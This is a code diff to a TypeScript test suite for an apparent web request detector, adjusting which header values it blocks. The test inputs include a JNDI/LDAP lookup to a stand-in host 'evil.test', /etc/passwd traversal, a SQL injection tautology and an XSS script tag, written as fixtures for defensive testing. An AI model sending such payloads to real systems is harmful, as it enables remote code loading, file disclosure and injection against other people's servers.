@@ -178,13 +178,14 @@ test('extractInputs: path, query with brackets, cookies, headers, JSON keys and 
   assert.deepEqual(inputs.filter((i) => i.name === 'authorization'), [{ location: 'header-other', name: 'authorization', value: 'Bearer t' }]);
 });
 
-test('headers outside the full set: jndi, crlf and traversal only; a Basic user name fully', () => {
+test('headers outside the full set: jndi, crlf and traversal only (SQLi and XSS too in those applications store); a Basic user name fully', () => {
   const d = compileDetector();
   const verdict = (headers: Record<string, string>) => d.inspectRequest({ method: 'GET', path: '/', headers });
   assert.ok(verdict({ 'x-correlation-id': '${jndi:ldap://evil.test/a}' }).blocked);
   assert.ok(verdict({ 'accept-language': '../../../../etc/passwd' }).blocked);
   // Other classes are not looked for there: no false positive on a header's own grammar.
-  assert.ok(!verdict({ 'if-none-match': `"1' OR '1'='1" --` }).blocked);
+  assert.ok(!verdict({ 'cache-control': `"1' OR '1'='1" --` }).blocked);
+  assert.ok(verdict({ 'if-none-match': `"1' OR '1'='1" --` }).blocked, 'an entity tag an application may compare in SQL');
   assert.ok(!verdict({ accept: '<script>alert(1)</script>' }).blocked);
   assert.ok(!verdict({ authorization: 'Bearer ../../../../etc/passwd' }).blocked);
   assert.ok(verdict({ authorization: 'Bearer ${jndi:ldap://evil.test/a}' }).blocked);
